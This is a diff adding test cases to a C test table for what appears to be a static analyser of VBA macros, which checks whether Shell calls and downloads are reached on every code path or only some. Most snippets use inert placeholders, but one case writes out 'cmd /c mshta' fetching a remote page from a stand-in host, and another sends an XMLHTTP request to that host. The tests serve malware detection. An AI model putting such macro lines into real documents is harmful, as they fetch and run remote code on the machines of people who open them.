@@ -344,6 +344,27 @@ static const struct effect_row ways[] = {
       EFFECT_RUN, "command", "xa", CONDITIONAL },
     { "a path with a hole that is the same in both ways", "vba", SUB "If Rnd > 1 Then p = Environ(x) & \"\\a.exe\" Else p = Environ(y) & \"\\a.exe\"\r\nShell p" END,
       EFFECT_RUN, "command", HOLE "\\a.exe", PARTIAL },
+    /* who reaches it both ways reaches it */
+    { "on a condition first, and then for sure", "vba", SUB "If Rnd > 1 Then Shell \"a\"\r\nShell \"a\"" END, EFFECT_RUN, "command", "a", KNOWN },
+    { "the same in both ways", "vba", SUB "If Rnd > 1 Then Shell \"a\" Else Shell \"a\"" END, EFFECT_RUN, "command", "a", KNOWN },
+    { "the same in both ways, on a condition", "vba", SUB "If Rnd > 2 Then\r\nIf Rnd > 1 Then Shell \"a\" Else Shell \"a\"\r\nEnd If" END, EFFECT_RUN, "command", "a", CONDITIONAL },
+    { "the same in three of three", "vba", SUB "If Rnd > 2 Then\r\nIf Rnd > 1 Then Shell \"a\" Else Shell \"a\"\r\nElse\r\nShell \"a\"\r\nEnd If" END,
+      EFFECT_RUN, "command", "a", KNOWN },
+    { "the same in two of three", "vba", SUB "If Rnd > 2 Then\r\nIf Rnd > 1 Then Shell \"a\"\r\nElse\r\nShell \"a\"\r\nEnd If" END, EFFECT_RUN, "command", "a", CONDITIONAL },
+    { "the same address in both ways", "vba",
+      SUB "Set h = CreateObject(\"MSXML2.XMLHTTP\")\r\nIf Rnd > 1 Then\r\nh.Open \"GET\", \"http://a.example.invalid/\": h.Send\r\nElse\r\nh.Open \"GET\", \"http://a.example.invalid/\": h.Send\r\nEnd If" END,
+      EFFECT_DOWNLOAD, "url", "http://a.example.invalid/", KNOWN },
+    { "in a procedure that may be left before it", "vba",
+      "Sub b()\r\nIf Rnd > 3 Then Exit Sub\r\nShell \"a\"\r\nEnd Sub\r\n" SUB "If Rnd > 1 Then\r\nb\r\nElse\r\nb\r\nEnd If" END, EFFECT_RUN, "command", "a", CONDITIONAL },
+    { "in a procedure that leaves behind it", "vba",
+      "Sub b()\r\nIf Rnd > 3 Then\r\nShell \"a\": Exit Sub\r\nEnd If\r\nShell \"b\"\r\nEnd Sub\r\n" SUB "If Rnd > 1 Then\r\nb\r\nElse\r\nb\r\nEnd If" END, EFFECT_RUN, "command", "a", CONDITIONAL },
+    { "the same in both ways, of which one leaves", "vba",
+      SUB "If Rnd > 2 Then\r\nIf Rnd > 1 Then Shell \"a\": Exit Sub\r\nShell \"b\"\r\nElse\r\nShell \"a\"\r\nEnd If" END, EFFECT_RUN, "command", "a", CONDITIONAL },
+    { "the same with another value in one way", "vba", SUB "If Rnd > 1 Then s = \"a\" Else s = \"b\"\r\nIf Rnd > 1 Then Shell \"a\" Else Shell s" END,
+      EFFECT_RUN, "command", "a", CONDITIONAL },
+    { "in a loop that may not begin", "vba", SUB "Do While Rnd > 1\r\nShell \"a\"\r\nLoop" END, EFFECT_RUN, "command", "a", CONDITIONAL },
+    { "a command that both ways hand on", "vba", SUB "If Rnd > 1 Then Shell \"cmd /c mshta http://a.example.invalid/\" Else Shell \"cmd /c mshta http://a.example.invalid/\"" END,
+      EFFECT_RUN, "command", "cmd /c mshta http://a.example.invalid/", KNOWN },
 };
 
 static void taken_back(void **state)
